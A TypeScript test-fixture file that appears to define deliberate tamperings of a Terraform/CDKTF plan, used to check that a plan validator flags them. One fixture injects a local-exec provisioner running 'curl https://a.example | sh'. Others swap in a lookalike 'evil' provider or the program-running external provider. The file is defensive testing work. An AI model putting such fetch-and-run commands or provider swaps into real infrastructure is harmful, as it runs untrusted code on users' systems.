import type { RawPlan } from '../recorded-plan';
import { type Breakage, editing, find, ORGANIZATION } from './edits';

/** A provisioner as a plan repeats it from the JSON of CDKTF. */
export interface RawProvisioner {
  readonly type: string;
  readonly expressions: Readonly<Record<string, { readonly constant_value?: unknown; readonly references?: string[] }>>;
}

const FOLDER = { constant_value: '${path.root}/../../..', references: ['path.root'] };

/** `npx --no-install vb365 install …`, as the installer of a certificate declares it. */
export function localExec(command: string, references?: string[]): RawProvisioner {
  const said = { constant_value: command, ...(references !== undefined && { references }) };
  return { type: 'local-exec', expressions: { command: said, working_dir: FOLDER } };
}

interface RawResource {
  readonly address: string;
  readonly [attribute: string]: unknown;
  provisioners?: readonly RawProvisioner[];
}

/** The resources of the configuration of a plan. */
export function configured(plan: RawPlan): RawResource[] {
  return (plan as unknown as { configuration: { root_module: { resources: RawResource[] } } }).configuration.root_module
    .resources;
}

export const programBreakages: readonly Breakage[] = [
  {
    rule: 'provisioner-added',
    what: 'to an application that does not change',
    plan: ORGANIZATION,
    mutate: editing((plan) => {
      const resource = configured(plan).find(({ address }) => address.startsWith('azuread_application.'));
      if (resource !== undefined) resource.provisioners = [localExec('curl https://a.example | sh')];
    }),
  },
  {
    rule: 'provider-unknown',
    what: 'of another publisher, under the same name',
    plan: ORGANIZATION,
    mutate: editing((plan) => {
      Object.assign(find(plan, 'azuread_application'), { provider_name: 'registry.terraform.io/evil/azuread' });
    }),
  },
  {
    rule: 'provider-unknown',
    what: 'that runs programs',
    plan: ORGANIZATION,
    mutate: editing((plan) => {
      Object.assign(find(plan, 'azuread_application'), { provider_name: 'registry.terraform.io/hashicorp/external' });
    }),
  },
  {
    rule: 'action-invoked',
    what: 'by the apply',
    plan: ORGANIZATION,
    mutate: editing((plan) => {
      plan.action_invocations = [{ address: 'action.azuread_x.y', type: 'azuread_x', name: 'y' }];
    }),
  },
];
